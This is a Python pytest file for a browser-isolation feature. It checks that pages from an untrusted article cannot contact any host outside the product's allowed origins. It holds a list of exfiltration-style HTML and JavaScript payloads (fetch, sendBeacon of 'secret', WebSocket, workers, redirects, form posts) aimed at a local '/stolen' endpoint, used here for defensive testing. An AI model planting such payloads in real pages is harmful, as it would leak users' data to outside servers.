"""An article is untrusted: whatever it makes a page do, nothing but the product's origins is reached."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Error as PlaywrightError

from helpwright.checking.context import open_context
from helpwright.settings import PictureSettings
from tests.conftest import BrowserLoop

pytestmark = pytest.mark.browser

# What a page of the product does to reach {outside}. `/away` redirects to it.
TRIES = {
    "a picture": "<img src='{outside}'>",
    "a picture by a redirect": "<img src='/away'>",
    "a frame": "<iframe src='{outside}'></iframe>",
    "a frame by a redirect": "<iframe src='/away'></iframe>",
    "a script's request": "<script>fetch('{outside}', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "a script's request by a redirect": "<script>fetch('/away', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "a beacon": "<script>navigator.sendBeacon('{outside}', 'secret')</script>",
    "a socket": "<script>new WebSocket('{outside}'.replace('http', 'ws'))</script>",
    "a stream of events": "<script>new EventSource('{outside}')</script>",
    "a worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{outside}')`])))</script>",
    "a link read ahead": "<link rel=prefetch href='{outside}'><link rel=preconnect href='{outside}'>",
    "the page itself": "<script>location = '{outside}'</script>",
    "the page itself by a redirect": "<script>location = '/away'</script>",
    "a form": "<form method=post action='{outside}'></form><script>document.forms[0].submit()</script>",
    "a new tab": "<a target=_blank href='{outside}'>x</a><script>document.links[0].click()</script>",
}


class Server:
    """A web server that counts what comes; `pages` are its answers by path, as whole HTTP responses."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.pages: dict[str, str] = {}
        self.origin = ""

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        path = line.split(b" ")[1].decode() if b" " in line else "a connection"
        self.asked.append(path)
        writer.write(self.pages.get(path, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n").encode())
        await writer.drain()
        writer.close()


@asynccontextmanager
async def started() -> AsyncIterator[Server]:
    server = Server()
    async with await asyncio.start_server(server.answer, "127.0.0.1", 0) as listening:
        server.origin = f"http://127.0.0.1:{listening.sockets[0].getsockname()[1]}"
        yield server


def page(body: str) -> str:
    html = f"<!doctype html><title>x</title>{body}"
    return (
        f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(html)}\r\nConnection: close\r\n\r\n{html}"
    )


async def asked_outside(loop: BrowserLoop, body: str, *, allowed: bool) -> list[str]:
    """What a server other than the product was asked for by the product's page."""
    async with started() as product, started() as outside:
        target = f"{outside.origin}/stolen"
        product.pages["/"] = page(body.format(outside=target))
        product.pages["/away"] = f"HTTP/1.1 302 Found\r\nLocation: {target}\r\nContent-Length: 0\r\n\r\n"
        product.pages["/last"] = page("<h1>last</h1>")
        origins = [product.origin, outside.origin] if allowed else [product.origin]
        context = await open_context(loop.browser, PictureSettings(), origins)
        try:
            tab = await context.new_page()
            try:
                await tab.goto(product.origin, wait_until="networkidle")
            except PlaywrightError:
                assert "location" in body or "submit" in body  # the page went away, to nowhere
            other = await context.new_page()
            await other.goto(f"{product.origin}/last", wait_until="networkidle")
            assert await other.inner_text("h1") == "last"
        finally:
            await context.close()
        return outside.asked


@pytest.mark.parametrize("way", TRIES)
def test_nothing_else_is_reached(way: str, browser_loop: BrowserLoop) -> None:
    assert browser_loop.run(asked_outside(browser_loop, TRIES[way], allowed=False)) == []


@pytest.mark.parametrize("way", TRIES)
def test_an_origin_that_the_product_names_is_reached(way: str, browser_loop: BrowserLoop) -> None:
    assert "/stolen" in browser_loop.run(asked_outside(browser_loop, TRIES[way], allowed=True))
